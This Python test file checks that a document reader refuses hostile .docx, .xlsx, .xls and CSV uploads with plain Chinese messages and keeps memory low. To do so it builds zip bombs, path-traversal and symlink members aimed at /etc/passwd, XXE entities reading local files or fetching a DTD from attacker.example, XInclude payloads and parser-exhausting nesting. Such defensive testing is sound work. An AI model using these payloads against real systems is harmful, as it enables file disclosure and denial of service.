"""Hostile files beyond test_safety.py: each is refused with a plain Chinese message (or, when it
is in fact a harmless valid file, read without touching what it hides), never a traceback, and
reading all of them keeps the process under 300 MB."""

from __future__ import annotations

import io
import time
from pathlib import Path

import pytest

from huiwu.core.files.safety import UnsafeFile
from huiwu.receipts.documents.extract import extract
from huiwu.receipts.documents.reader import read_document

from .files import (
    _deflate,
    bzip2_bomb_docx,
    docx_parts,
    docx_with_body,
    overlapping_zip,
    raw_xlsx,
    raw_zip,
    read_in_fresh_process,
    rezip,
    simple_docx,
    x_row,
    zip64_liar,
    zip_of,
)

ROOT = Path(__file__).resolve().parents[3]
NAMES = ["赵敏", "钱多多", "孙立", "阿依古丽·买买提"]
W_DOC = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
         'wordprocessingml/2006/main"><w:body>{}</w:body></w:document>')


def refused(data: bytes, name: str) -> str:
    with pytest.raises(UnsafeFile) as info:
        read_document(data, name)
    message = info.value.message
    assert message and "Traceback" not in message and not message.isascii()
    return message


def names(data: bytes, name: str) -> list[str]:
    return [r.data["name"] for r in extract(read_document(data, name)).attendees]


# -- zip containers ---------------------------------------------------------------------------------
def test_nested_zip_and_docx_members_are_not_opened():
    inner = simple_docx()
    data = rezip(simple_docx(), add={"word/embeddings/Microsoft_Word_Document.docx": inner,
                                     "word/embeddings/oleObject1.zip": rezip(inner)})
    assert names(data, "r.docx") == NAMES


def test_overlapping_members_zip_bomb_is_refused():
    data = overlapping_zip(docx_parts(), copies=500, size=8 << 20)
    assert len(data) < 200_000
    assert "压缩炸弹" in refused(data, "fifield.docx")


def test_overlapping_members_under_the_total_limit_are_refused_too():
    assert "压缩炸弹" in refused(overlapping_zip(docx_parts(), copies=3, size=1 << 20), "fifield.docx")


@pytest.mark.parametrize("bad", ["../../etc/cron.d/x", "/etc/passwd", "word/../../x.xml", "C:/x.xml", "word\\..\\x.xml"])
def test_member_names_with_parent_or_absolute_paths_are_refused(bad):
    data = zip_of([*docx_parts().items(), (bad, b"<x/>")])
    assert "路径异常" in refused(data, "slip.docx")


def test_duplicate_member_names_are_refused():
    parts = docx_parts()
    evil = W_DOC.format("<w:p><w:r><w:t>另一份正文</w:t></w:r></w:p>").encode()
    data = zip_of([*parts.items(), ("word/document.xml", evil)])
    assert "重名" in refused(data, "dup.docx")


def test_zip64_sizes_that_lie_are_cut_off():
    parts = docx_parts()
    big = b"<w:document/>" + b" " * (8 << 20)
    small_claim = zip64_liar(parts, "word/document.xml", big, declared=1000)
    assert "大小" in refused(small_claim, "zip64.docx") or "损坏" in refused(small_claim, "zip64.docx")
    huge_claim = zip64_liar(parts, "word/document.xml", parts["word/document.xml"], declared=1 << 40)
    assert "压缩炸弹" in refused(huge_claim, "zip64.docx")


def test_bzip2_member_that_lies_about_its_size_is_refused_before_inflating():
    assert "压缩方式" in refused(bzip2_bomb_docx(), "bz2.docx")


# -- XML parts ----------------------------------------------------------------------------------------
def attributes_docx(count: int) -> bytes:
    """A .docx whose document.xml root carries `count` distinct attributes (4,000,000: ~50 MB)."""
    import zlib

    # deflated piece by piece, so the test process never holds the 50 MB itself
    comp, crc, size, body = zlib.compressobj(9, zlib.DEFLATED, -15), 0, 0, []
    pieces = [b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"']
    for i in range(count):
        pieces.append(b' a%d="%d"' % (i, i % 10))
        if len(pieces) >= 100_000 or i == count - 1:
            if i == count - 1:
                pieces.append(b"><w:body/></w:document>")
            chunk = b"".join(pieces)
            crc, size, pieces = zlib.crc32(chunk, crc), size + len(chunk), []
            body.append(comp.compress(chunk))
    body.append(comp.flush())
    members = [(n, _deflate(b), len(b), zlib.crc32(b)) for n, b in docx_parts().items() if n != "word/document.xml"]
    return raw_zip([*members, ("word/document.xml", b"".join(body), size, crc)])


def test_fifty_megabytes_of_attributes_on_one_element_are_refused():
    data = attributes_docx(4_000_000)
    start = time.process_time()
    message = refused(data, "attrs.docx")
    assert any(word in message for word in ("太大", "内容过多", "压缩", "格式有误")), message
    assert time.process_time() - start < 10


def test_deeply_nested_elements_are_refused():
    for depth in (100_000, 40_000):  # the first is caught by its ratio, the second by the parser's depth limit
        doc = W_DOC.format("<w:p>" * depth + "</w:p>" * depth).encode()
        message = refused(rezip(simple_docx(), replace={"word/document.xml": doc}), "deep.docx")
        assert "格式有误" in message or "压缩比" in message


def test_external_entity_through_a_parameter_entity_is_refused():
    doc = (b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>\n'
           b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>')
    assert "DOCTYPE" in refused(rezip(simple_docx(), replace={"word/document.xml": doc}), "pe.docx")


def test_xinclude_is_refused():
    doc = W_DOC.format('<w:p><w:r><w:t><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                       'parse="text"/></w:t></w:r></w:p>').encode()
    assert "XInclude" in refused(rezip(simple_docx(), replace={"word/document.xml": doc}), "xi.docx")


def test_docx_with_a_huge_grid_span_costs_nothing():
    doc = W_DOC.format('<w:tbl><w:tr><w:trPr><w:gridBefore w:val="2000000000"/></w:trPr><w:tc><w:tcPr>'
                       '<w:gridSpan w:val="100000"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr>'
                       '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="-7"/><w:vMerge w:val="restart"/></w:tcPr><w:p/></w:tc></w:tr>'
                       "</w:tbl>").encode()
    start = time.process_time()
    parsed = read_document(rezip(simple_docx(), replace={"word/document.xml": doc}), "span.docx")
    assert time.process_time() - start < 1
    assert all(len(row) <= 60 for g in parsed.grids for row in g.rows)


# -- Excel ------------------------------------------------------------------------------------------
def test_dimension_claiming_a_million_rows_is_harmless():
    rows = x_row(1, ["姓名", "单位", "手机"]) + x_row(2, ["甲子", "某单位", "13800138000"])
    sheet = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
             f'<sheetData>{rows}</sheetData><mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells></worksheet>')
    assert names(raw_xlsx([("Sheet1", sheet)]), "dim.xlsx") == ["甲子"]


def test_a_million_rows_really_written_are_refused():
    buf = io.StringIO()  # no list of a million strings in the test process
    for i in range(1, 1_000_001):
        buf.write(f'<row r="{i}"/>')
    message = refused(raw_xlsx([("Sheet1", buf.getvalue())]), "rows.xlsx")
    assert "内容过多" in message or "压缩比" in message


@pytest.mark.parametrize("index", ["7", "-1", "99999999999", "x"])
def test_shared_string_index_out_of_range_is_a_damaged_file(index):
    rows = x_row(1, ["姓名", "单位", "手机"]) + f'<row r="2"><c r="A2" t="s"><v>{index}</v></c></row>'
    assert "损坏" in refused(raw_xlsx([("Sheet1", rows)], shared=["张三"]), "sst.xlsx")


@pytest.mark.parametrize("ref", ["XFD1048577", "A-1", "A0", "ZZZZ1", "A99999999", "$"])
def test_impossible_cell_references_are_skipped(ref):
    rows = (x_row(1, ["姓名", "单位", "手机"]) + x_row(2, ["乙丑", "某单位", "13800138001"])
            + f'<row r="3"><c r="{ref}" t="inlineStr"><is><t>丙寅</t></is></c></row>')
    assert names(raw_xlsx([("Sheet1", rows)]), "refs.xlsx") == ["乙丑"]


# -- CSV --------------------------------------------------------------------------------------------
def test_ten_megabyte_single_line_csv_is_refused():
    data = b"ab," * (10 * 1024 * 1024 // 3)
    assert "过长" in refused(data, "line.csv")


@pytest.mark.parametrize("data", [b"\x81\x20" * 1000, "姓名,单位\n张三,".encode() + b"\xa1\x20\xfe\x7f" * 50])
def test_undecodable_csv_gets_a_plain_message(data):
    assert "编码" in refused(data, "bad.csv")


# -- memory ---------------------------------------------------------------------------------------------
def test_memory_stays_small_on_these_hostile_files(tmp_path):
    """Every file above that could cost memory, read in a fresh process: peak RSS under 300 MB.
    (VmHWM, not ru_maxrss: the latter keeps the forking test process's peak across exec.)"""
    parts = docx_parts()
    files = {
        "fifield.docx": overlapping_zip(parts, copies=500, size=8 << 20),
        "zip64.docx": zip64_liar(parts, "word/document.xml", b"<w:document/>" + b" " * (8 << 20), declared=1000),
        "deep.docx": rezip(simple_docx(), replace={"word/document.xml": W_DOC.format("<w:p>" * 100_000).encode()}),
        "attrs.docx": rezip(simple_docx(), replace={"word/document.xml": b"<w:document " + b'a="1" ' * 1_000_000 + b"/>"}),
        "attrs300k.docx": attributes_docx(300_000),  # ~3.5 MB, under the part limit: parsed, within memory
        "rows.xlsx": raw_xlsx([("Sheet1", "<row/>" * 990_000)]),
        "dense.xlsx": raw_xlsx([("Sheet1", "".join(f'<row r="{i}"/>' for i in range(1, 240_000)))]),
        "line.csv": b"ab," * (10 * 1024 * 1024 // 3),
        "bz2.docx": bzip2_bomb_docx(),
        "span.docx": rezip(simple_docx(), replace={"word/document.xml": W_DOC.format(
            '<w:tbl>' + '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="100000"/></w:tcPr><w:p/></w:tc></w:tr>' * 5000
            + "</w:tbl>").encode()}),
    }
    harmless = {"dense.xlsx", "span.docx", "attrs300k.docx"}  # valid files, read within the limits
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    result = read_in_fresh_process(tmp_path)
    assert result["maxrss_kb"] < 300 * 1024, result
    assert all(result[name] != "read" for name in files if name not in harmless), result


# -- exports under .xls/.doc (web pages, Excel 2003 XML) ---------------------------------------------
SS_HEAD = (b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
           b'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">')


@pytest.mark.parametrize("data,word", [
    (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><html><body><table><tr><td>&e;'
     b"</td></tr></table></body></html>", "ENTITY"),
    (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + SS_HEAD[21:]
     + b"<Worksheet><Table><Row><Cell><Data>&e;</Data></Cell></Row></Table></Worksheet></Workbook>", "DOCTYPE"),
    (SS_HEAD + b"<a>" * 100_000, "格式有误"),
    (b"<html><body><table><tr><td>" + b"x" * (5 << 20) + b"</td></tr></table></body></html>", "内容过多"),
])
def test_hostile_exports_under_an_excel_name_are_refused(data, word):
    assert word in refused(data, "export.xls")


@pytest.mark.parametrize("data", [
    b"<table>" + b"<tr><td rowspan=99999 colspan=99999>x</td></tr>" * 3000 + b"</table>",
    b"<table><tr><td>\xe5\xa7\x93\xe5\x90\x8d</td><td>a</td></tr></table>" * 60_000,
    b"<html><body>" + b"<div>" * 200_000 + b"x</body></html>",
    SS_HEAD + b'<Worksheet ss:Name="a"><Table>' + b'<Row><Cell ss:MergeDown="99999" ss:MergeAcross="99999"><Data '
    b'ss:Type="String">x</Data></Cell></Row>' * 5000 + b"</Table></Worksheet></Workbook>",
])
def test_huge_spans_and_many_tables_in_exports_cost_little(data):
    start = time.process_time()
    parsed = read_document(data, "export.xls")
    extract(parsed)
    assert time.process_time() - start < 3
    assert len(parsed.grids) <= 200 and all(len(row) <= 60 for g in parsed.grids for row in g.rows)


def test_thousands_of_alt_chunks_pointing_at_one_big_part_cost_little():
    rows = "".join(f"<tr><td>{i}</td><td>{i * 7919 % 100003}</td></tr>" for i in range(60_000))
    html = f"<html><body><table>{rows}</table></body></html>".encode()
    rels = "".join(f'<Relationship Id="rA{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   f'aFChunk" Target="{"chunk.htm" if i % 2 else "../../../etc/passwd"}"/>' for i in range(50))
    body = "".join(f'<w:altChunk r:id="rA{i % 50}"/>' for i in range(10_000))
    start = time.process_time()
    parsed = read_document(docx_with_body(body, rels=rels, add={"word/chunk.htm": html}), "chunks.docx")
    assert time.process_time() - start < 5
    assert len(parsed.grids) == 1


def test_two_hundred_thousand_directory_entries_are_refused_before_zipfile_reads_them():
    import struct

    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    central = entry * 200_000
    data = local + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, len(central), len(local), 0)
    start = time.process_time()
    assert "部件过多" in refused(data, "many.docx")
    assert time.process_time() - start < 0.5


def test_symlink_member_is_refused():
    import zipfile as zf_module

    info = zf_module.ZipInfo("word/media/link.png")
    info.external_attr = (0o120777 << 16)
    out = io.BytesIO()
    with zf_module.ZipFile(out, "w") as z:
        for name, body in docx_parts().items():
            z.writestr(name, body)
        z.writestr(info, "/etc/passwd")
    assert "路径异常" in refused(out.getvalue(), "link.docx")
